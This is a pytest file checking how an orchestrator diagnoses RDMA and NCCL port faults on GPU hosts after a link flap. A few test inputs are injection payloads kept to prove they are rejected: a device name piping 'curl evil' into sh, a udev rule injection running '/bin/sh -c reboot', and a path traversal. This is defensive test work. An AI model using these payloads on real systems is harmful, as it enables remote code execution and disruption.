"""What NCCL will not find at RDMA ports after a flap, by what hosts print of them."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from agent.host.rdma import rdma
from optics import Garbled, HostPort, Unreachable
from orchestrator.inventory.hosts import Host
from orchestrator.verify import rdma_reach
from orchestrator.verify.doctor_reach import in_one
from orchestrator.verify.rdma import (
    RdmaPort,
    RdmaTables,
    nccl_uses,
    port_faults,
    rdma_environment,
    read_tables,
    tables_probe,
)
from tests.kit.rdma_tree import V1, device, gid_of, interface, table
from tests.properties.labs import lab

HOST = lab(2, 2, forwarding="npar-rdma", devices=1).hosts["gpu01"]
MACS = {1: "0e:00:00:00:00:01", 2: "0e:00:00:00:00:02"}
BEFORE = {f"pp{number}rdma": mac for number, mac in MACS.items()}


def tables(folder: Path, **more: Any) -> RdmaTables:
    """What the agent prints of the devices and interfaces below a folder, as the operator reads
    it.
    """
    found = rdma(str(folder)) | {"provisioned": BEFORE} | more
    return read_tables(json.dumps({"rdma": found}))


def as_provisioned(folder: Path, *numbers: int) -> Path:
    """These ports as they are before anything happens: qedr0 is port 1."""
    for number in numbers:
        name = f"pp{number}rdma"
        interface(folder, name, MACS[number])
        device(folder, f"qedr{number - 1}", name, table(HOST.port_address(number)))
    return folder


def texts(found: RdmaTables, env: Mapping[str, str] | None = None, host: Host = HOST) -> list[str]:
    return [fault.text for fault in port_faults(host, found, env or {})]


def test_ports_as_the_launch_expects_them_have_no_fault(tmp_path: Path) -> None:
    found = tables(as_provisioned(tmp_path, 1, 2))
    assert texts(found) == []
    probe = tables_probe(HOST, found, {})
    assert (probe.state, probe.fix) == ("ok", "")
    assert probe.detail == "each of 2 ports has its interface and its RoCE v2 GID at index 3"


def test_a_port_that_nothing_leads_to_is_not_judged(tmp_path: Path) -> None:
    found = tables(as_provisioned(tmp_path, 1))
    assert tables_probe(HOST, found, {}).state == "fail"
    probe = tables_probe(HOST, found, {}, {1})
    assert probe.detail == "each of 1 ports has its interface and its RoCE v2 GID at index 3"
    answer = json.dumps({"rdma": rdma(str(tmp_path)) | {"provisioned": BEFORE}}).encode()

    def asked(cabled: set[int]) -> list[str]:
        parts = iter((answer, b""))
        found = rdma_reach.probes(speaking(lambda _: next(parts)), HOST, {}, cabled)
        return [probe.state for probe in found]

    assert (asked({1}), asked({1, 2}), asked(set())) == (["ok"], ["fail"], [])


def test_gids_that_moved_are_named_with_both_indices_and_what_is_there_now(tmp_path: Path) -> None:
    as_provisioned(tmp_path, 1)
    interface(tmp_path, "pp2rdma", MACS[2])
    device(tmp_path, "qedr1", "pp2rdma", table(HOST.port_address(2), 4))
    found = tables(tmp_path)
    assert texts(found) == [
        "p2: qedr1 port 1 has the RoCE v2 GID of 10.100.1.2 at index 5; at index 3, which NCCL_IB_GID_INDEX says, is nothing"
    ]
    probe = tables_probe(HOST, found, {})
    assert (
        probe.state == "fail" and "'ip link set pp2rdma down; ip link set pp2rdma up'" in probe.fix
    )
    assert "NCCL_IB_GID_INDEX" not in probe.fix, "one index for both ports is not right"


def test_the_index_of_the_jobs_own_environment_counts_and_minus_one_leaves_it_to_nccl(
    tmp_path: Path,
) -> None:
    for number, name in enumerate(BEFORE, 1):
        interface(tmp_path, name, MACS[number])
        device(tmp_path, f"qedr{number - 1}", name, table(HOST.port_address(number), 4))
    found = tables(tmp_path)
    assert (
        texts(found, {"NCCL_IB_GID_INDEX": "5"}) == texts(found, {"NCCL_IB_GID_INDEX": "-1"}) == []
    )
    wrong = texts(found, {"NCCL_IB_GID_INDEX": "4"})
    assert (
        len(wrong) == 2
        and "at index 4, which NCCL_IB_GID_INDEX says, is 10.100.1.1 (IB/RoCE v1)" in wrong[0]
    )
    assert '"NCCL_IB_GID_INDEX": "5"' in tables_probe(HOST, found, {}).fix


def test_a_gid_that_is_absent_or_of_the_other_version_is_told(tmp_path: Path) -> None:
    interface(tmp_path, "pp1rdma", MACS[1])
    interface(tmp_path, "pp2rdma", MACS[2])
    device(tmp_path, "qedr0", "pp1rdma", table("192.0.2.1"))
    device(tmp_path, "qedr1", "pp2rdma", {3: (gid_of(HOST.port_address(2)), V1)})
    absent, other = port_faults(HOST, tables(tmp_path), {})
    assert absent.text == "p1: qedr0 port 1 has no RoCE v2 GID of 10.100.1.1 among 4"
    assert "testbed host provision --limit gpu01" in absent.fix
    assert other.text.endswith("among 1 (index 3: 10.100.1.2 (IB/RoCE v1))")
    assert "provision" not in other.fix


def test_an_interface_is_found_again_under_its_new_name_by_its_mac_address(tmp_path: Path) -> None:
    as_provisioned(tmp_path, 1)
    interface(tmp_path, "enp9s0", MACS[2])
    (fault,) = port_faults(HOST, tables(tmp_path), {})
    assert fault.text == f"p2: pp2rdma was renamed to enp9s0, which has its MAC address {MACS[2]}"
    assert f'ATTR{{address}}=="{MACS[2]}", NAME="pp2rdma"' in fault.fix
    swapped = {"pp1rdma": [MACS[2], True], "pp2rdma": [MACS[1], True]}
    assert [t.partition(",")[0] for t in texts(tables(tmp_path, interfaces=swapped))] == [
        "p1: pp1rdma was renamed to pp2rdma",
        "p2: pp2rdma was renamed to pp1rdma",
    ]


def test_an_interface_that_nothing_leads_to_is_told_and_another_nic_in_its_place_is_none(
    tmp_path: Path,
) -> None:
    as_provisioned(tmp_path, 1)
    interface(tmp_path, "eth0", "0e:00:00:00:00:99")
    assert texts(tables(tmp_path)) == [
        f"p2: no interface pp2rdma; no interface has the MAC address that it had, {MACS[2]}"
    ]
    assert texts(tables(tmp_path, provisioned={})) == [
        "p2: no interface pp2rdma; it has eth0, pp1rdma"
    ]
    interface(tmp_path, "pp2rdma", "0e:00:00:00:00:77")
    device(tmp_path, "qedr1", "pp2rdma", table(HOST.port_address(2)))
    assert texts(tables(tmp_path)) == []


def test_an_interface_that_is_down_or_whose_device_is_not_active_is_told_but_no_dark_one(
    tmp_path: Path,
) -> None:
    for number, (name, carrier) in enumerate(zip(BEFORE, ("", "1"), strict=True), 1):
        interface(tmp_path, name, MACS[number], carrier)
        device(tmp_path, f"qedr{number - 1}", name, table(HOST.port_address(number)), "1: DOWN")
    assert texts(tables(tmp_path)) == [
        "p1: pp1rdma is down",
        "p2: qedr1 port 1 is DOWN although pp2rdma has carrier",
    ]
    (tmp_path / "net" / "pp1rdma" / "carrier").write_text("0\n")
    (tmp_path / "net" / "pp2rdma" / "carrier").write_text("0\n")
    assert texts(tables(tmp_path)) == []


def test_a_device_that_is_gone_or_has_a_name_that_nccl_is_not_given_is_told(tmp_path: Path) -> None:
    as_provisioned(tmp_path, 1)
    interface(tmp_path, "pp2rdma", MACS[2])
    assert texts(tables(tmp_path)) == ["p2: no RDMA device has interface pp2rdma"]
    device(tmp_path, "rocep9s0", "pp2rdma", table(HOST.port_address(2)))
    assert texts(tables(tmp_path)) == [
        "p2: pp2rdma is rocep9s0, which NCCL_IB_HCA=qedr0,qedr1 does not name"
    ]
    assert texts(tables(tmp_path), {"NCCL_IB_HCA": "=qedr0"}) == [], "the job leaves port 2 out"


def test_hosts_whose_jobs_use_no_rdma_are_not_judged(tmp_path: Path) -> None:
    kernel = replace(HOST, forwarding="kernel")
    assert rdma_environment(kernel, {}) == {} and texts(RdmaTables(), host=kernel) == []
    for env in ({"NCCL_NET": "socket"}, {"NCCL_IB_DISABLE": "1"}):
        assert rdma_environment(HOST, env) == {}
    assert rdma_environment(kernel, {"NCCL_IB_DISABLE": "0"}) != {}


@pytest.mark.parametrize(
    ("spec", "chosen"),
    [
        ("", ["mlx5_1", "mlx5_10"]),
        ("mlx5_1", ["mlx5_1", "mlx5_10"]),
        ("=mlx5_1", ["mlx5_1"]),
        ("^=mlx5_1", ["mlx5_10"]),
        ("mlx4,mlx5_10:1", ["mlx5_10"]),
        ("mlx5_10:2", []),
        ("^mlx5", []),
    ],
)
def test_devices_are_chosen_as_nccl_does(spec: str, chosen: list[str]) -> None:
    ports = [RdmaPort(name, 1, "ACTIVE", (), ()) for name in ("mlx5_1", "mlx5_10")]
    assert [port.device for port in ports if nccl_uses(spec, port)] == chosen


@pytest.mark.parametrize(
    "line",
    [
        "",
        "usage: agent",
        "[]",
        '{"rdma": []}',
        '{"rdma": {"devices": [], "interfaces": {}, "provisioned": {}}}',
        '{"rdma": {"devices": {}, "interfaces": {"a": ["b"]}, "provisioned": {}}}',
        '{"rdma": {"devices": {"\\u001b": {"1": 2}}, "interfaces": {}, "provisioned": {}}}',
        '{"rdma": {"devices": {"a": {"1": {"state": "", "interfaces": [], "gids": [[0, "x", ""]]}}}, "interfaces": {}, "provisioned": {}}}',
        '{"rdma": {"devices": {}, "interfaces": {"\\u202e": ["", true]}, "provisioned": {}}}',
        "[" * 100_000,
    ],
)
def test_what_is_no_answer_of_the_agent_is_refused(line: str) -> None:
    with pytest.raises(Garbled, match="rdma"):
        read_tables(line)


@pytest.mark.parametrize(
    "more",
    [
        {"devices": {"x;curl evil|sh": {"1": {"state": "", "interfaces": [], "gids": []}}}},
        {"devices": {"-x": {"1": {"state": "", "interfaces": [], "gids": []}}}},
        {"devices": {"qedr0": {"1": {"state": "", "interfaces": ["a'b"], "gids": []}}}},
        {"interfaces": {"a b": ["", True]}},
        {"interfaces": {"x" * 16: ["", True]}},
        {"interfaces": {'a"b': ["", True]}},
        {"provisioned": {"../net": MACS[1]}},
    ],
)
def test_names_that_a_shell_reads_otherwise_are_refused(
    tmp_path: Path, more: Mapping[str, Any]
) -> None:
    with pytest.raises(Garbled, match="rdma"):
        tables(as_provisioned(tmp_path, 1), **more)


def test_a_mac_address_that_is_none_does_not_come_into_what_is_to_be_typed(tmp_path: Path) -> None:
    evil = '", RUN+="/bin/sh -c reboot'
    given = {"interfaces": {"enp9s0": [evil, True]}, "provisioned": {"pp1rdma": evil}}
    found = tables(as_provisioned(tmp_path, 2), **given)
    assert evil not in str(port_faults(HOST, found, {})) and found.macs == {"enp9s0": ""}


def test_of_many_names_a_few_are_told(tmp_path: Path) -> None:
    many = {f"eth{number}": ["", True] for number in range(4000)}
    told = texts(tables(as_provisioned(tmp_path), interfaces=many, provisioned={}))
    assert told[0].endswith("eth1003, and 3992 more"), told[0][:300]


def test_hosts_without_fault_share_a_line_of_doctor(tmp_path: Path) -> None:
    fine = tables_probe(HOST, tables(as_provisioned(tmp_path / "a", 1, 2)), {})
    bad = tables_probe(replace(HOST, name="gpu03"), tables(as_provisioned(tmp_path / "b", 1)), {})
    shown = in_one([fine, bad, replace(fine, name="RDMA of gpu02")])
    assert [(check.name, check.state) for check in shown] == [
        ("RDMA of gpu03", "fail"),
        ("RDMA of 2 hosts", "ok"),
    ]


async def test_hosts_that_do_not_say_are_named_beside_those_that_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = tables(as_provisioned(tmp_path, 1))

    def answer(host: Host) -> RdmaTables:
        if host.name == "gpu02":
            raise Unreachable("gpu02: no answer")
        return found

    monkeypatch.setattr(rdma_reach, "_tables", answer)
    hosts = [HOST, replace(HOST, name="gpu02"), replace(HOST, name="gpu03", forwarding="kernel")]
    used = {HostPort("gpu01", 2), HostPort("gpu02", 1)}
    told, unread = await rdma_reach.rdma_faults(hosts, {}, used)
    assert list(told) == ["gpu01"] and told["gpu01"][0].startswith("p2: no interface pp2rdma")
    assert unread == ("RDMA tables: gpu02: no answer",)
    told, _ = await rdma_reach.rdma_faults(hosts, {}, {HostPort("gpu01", 1)})
    assert told == {"gpu01": ()}, "no planned link leads to port 2"


def speaking(recv: Callable[[int], bytes]) -> Any:
    """A connection to a host that answers so until the channel is closed."""
    closed = threading.Event()
    channel = SimpleNamespace(
        exec_command=lambda _: None,
        recv=lambda most: b"" if closed.is_set() else recv(most),
        close=closed.set,
    )
    return SimpleNamespace(open_session=lambda timeout: channel)


@pytest.mark.parametrize(
    ("printed", "fix"),
    [
        (b"", "testbed host provision --limit gpu01, and it will"),
        (TimeoutError(), "a driver may hang: testbed host exec gpu01 -- dmesg"),
    ],
)
def test_a_host_that_prints_nothing_is_a_warning_with_a_way_on(
    printed: bytes | Exception, fix: str
) -> None:
    def recv(_: int) -> bytes:
        if isinstance(printed, Exception):
            raise printed
        return printed

    transport = speaking(recv)
    (probe,) = rdma_reach.probes(transport, HOST, {})
    assert (probe.name, probe.state, probe.fix) == ("RDMA of gpu01", "warn", fix)
    assert rdma_reach.probes(transport, replace(HOST, forwarding="kernel"), {}) == []


def test_a_host_that_prints_without_end_is_heard_for_a_time_and_to_a_size(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with pytest.raises(Garbled):
        rdma_reach.asked(speaking(lambda most: b"x" * most), "gpu01")
    monkeypatch.setattr(rdma_reach, "ANSWER_S", 0.05)

    def drip(_: int) -> bytes:
        time.sleep(0.001)
        return b"x"

    with pytest.raises(Unreachable, match=r"in 0.05 s: TimeoutError"):
        rdma_reach.asked(speaking(drip), "gpu01")
